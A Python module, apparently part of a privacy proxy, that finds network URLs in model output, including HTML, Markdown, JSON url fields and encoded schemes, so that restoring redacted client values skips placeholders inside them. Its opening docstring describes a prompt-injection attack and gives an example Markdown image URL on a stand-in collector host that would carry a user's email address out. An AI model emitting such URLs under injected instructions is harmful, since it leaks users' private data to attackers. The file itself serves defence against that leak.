"""Where a restore must not write the client's values: inside a URL with a network scheme (issue 12, atk9 A-L2).

A model told by an injected instruction to write `![s](https://collector.example/p.png?u=<EMAIL_ADDRESS_1>)` would
get the client's own renderer to fetch the URL with the real address in it, once restore filled it in. So a
placeholder or a synthesized value inside such a URL stays as it is (`proxy.guard.vault.Vault.restore`).

A URL starts at a network scheme (`http:`, `https:`, `ftp:`, `ftps:`, `ws:`, `wss:`, the colon also written as an
HTML entity or a JSON `\\u003a`), at `//` (or backslashes, which browsers read as slashes: scheme-relative) not
after a word, or at `www.`; it runs to the first character that ends it where it stands:
- after `="` / `='` (an HTML attribute: `src`, `href`, `srcset`, `action`...) or CSS `url("` / `url('`: the
  closing quote (a space or a line break inside is fetched as `%20`, or dropped);
- after `<` (a Markdown autolink or `](<...>)` target): a `>` or a line break;
- elsewhere (a bare URL, a Markdown `](...)` target, a JSON string): whitespace, `"`, `<`, `>` or a backtick.
The string value of a JSON key named as a URL (`"url": "collector.example/?u=..."`, `url_key`) is a URL whole,
scheme or not, to the string's end (tool-call arguments, streamed or not).
A placeholder (`<EMAIL_ADDRESS_1>`) is part of the URL it stands in, never its end. Which characters end a URL is
decided by the text before them only, so a stream knows whether a placeholder is inside a URL when it arrives:
`url_context` is what a channel keeps of the text it released (`proxy.guard.windows`).

`mailto:` and `tel:` are no network schemes (nothing is fetched; the address is the client's own): restored.
A URL the client itself sent is restored (`Vault.note_urls`): a placeholder whose URL, from its start through the
placeholder, is the start of a URL of the client's redacted request, as the provider saw it.
A relative URL (`/p.png?u=...`) goes to the client's own host: restored.
"""

from __future__ import annotations

import re

_PLACEHOLDER = r"<[A-Z][A-Z0-9_]*_\d+>"
# After a JSON escape (`\n`, `\t`...) a scheme or `www.` is at a word's start, though a letter precedes it.
_AFTER_ESCAPE = r"(?<=\\[nrtbf])"
START = re.compile(  # the lookahead first: a position that starts none is passed over fast
    rf"(?i)(?=[hfw/\\&\"])(?:(?P<key>\\?\"[\w-]{{0,40}}?(?:url|uri|href|src|srcset)\\?\"\s{{0,8}}:\s{{0,8}}"
    rf"(?P<esc>\\?)\")"
    rf"|(?:(?<![a-z0-9+.\-])|{_AFTER_ESCAPE})(?:https?|ftps?|wss?)"
    rf"(?::|&#0*58;?|&#x0*3a;?|&colon;|\\u003a)"
    rf"|(?:(?<![\w:/\\])|{_AFTER_ESCAPE})(?:[/\\]|&#0*47;?|&#x0*2f;?|&sol;|\\u002f){{2,}}(?=[^\s/\\])"
    rf"|(?:(?<![\w.\-])|{_AFTER_ESCAPE})www\.(?=[^\s.]))")
_QUOTED = re.compile(r"(?i)(?:=|\burl\()\s*\\?([\"'])\Z")  # read with the whitespace after it taken off
_BODY_DEFAULT = re.compile(rf"(?:{_PLACEHOLDER}|[^\s\"<>`])*")
_BODY_ANGLED = re.compile(rf"(?:{_PLACEHOLDER}|[^<>\n])*")
_BODY_QUOTED = {'"': re.compile(r'[^"]*'), "'": re.compile(r"[^']*")}
_BODY_JSON = re.compile(r'(?:[^"\\]|\\.)*')  # a JSON string's contents (an escaped quote is one of them)
_OPENER_READ = 16  # characters before a URL's start read for its opener (`src = \"`, `url( '`)
_CONTEXT_TAIL = 96  # what `url_context` keeps before an open URL, or of text outside one: a start, an opener or a
# JSON key (`"image_url": "`) cut across chunks
_CONTEXT_MAX = 4096  # the longest open URL `url_context` keeps as it is (longer: its start and a mark)
MARK = "\x00"  # stands for the part of a long URL `url_context` dropped (never in a noted client URL)


def url_spans(text: str) -> list[tuple[int, int, bool]]:
    """The URLs with a network scheme in `text`: (start, end, open), `open` when the URL runs to the text's end
    (it may go on in what follows)."""
    out: list[tuple[int, int, bool]] = []
    pos = 0
    while True:
        m = START.search(text, pos)
        if m is None:
            return out
        start = m.start()
        body = _BODY_DEFAULT
        if m.group("key") is not None:  # a JSON URL field (`"url": "...`, `proxy.guard.urls.url_key`): its string
            start = m.end()
            body = _BODY_QUOTED['"'] if m.group("esc") else _BODY_JSON  # (in a JSON string: to its `\"`)
            end = body.match(text, start).end()  # type: ignore[union-attr]
            out.append((start, end, end == len(text)))
            pos = max(end, start)
            continue
        last = text[max(0, start - _OPENER_READ):start].rstrip()
        if last.endswith(("\"", "'")):
            quoted = _QUOTED.search(last)
            if quoted is not None:
                body = _BODY_QUOTED[quoted.group(1)]
        elif last.endswith("<"):
            body = _BODY_ANGLED
        end = body.match(text, m.end()).end()  # type: ignore[union-attr]  # `*`: always matches
        out.append((start, end, end == len(text)))
        pos = max(end, m.end())


def url_context(text: str) -> str:
    """What a stream keeps of released `text` to read what follows it: from the opener of a URL still open at its
    end (a long one: its start, then `MARK`), else its last characters (a URL's start or opener cut in two)."""
    spans = url_spans(text)
    if spans and spans[-1][2]:
        start = spans[-1][0]
        head = max(0, start - _CONTEXT_TAIL)
        if len(text) - head <= _CONTEXT_MAX:
            return text[head:]
        scheme = START.match(text, start)
        cut = scheme.end() if scheme is not None else start + 1
        return text[head:cut] + MARK
    return text[-_CONTEXT_TAIL:]


_URL_KEYS = ("url", "uri", "href", "src", "srcset")


def url_key(key: str | int) -> bool:
    """A field named as a URL (`url`, a citation's; `image_url`, `href`, `src`): its whole text is one."""
    return isinstance(key, str) and key.lower().endswith(_URL_KEYS)
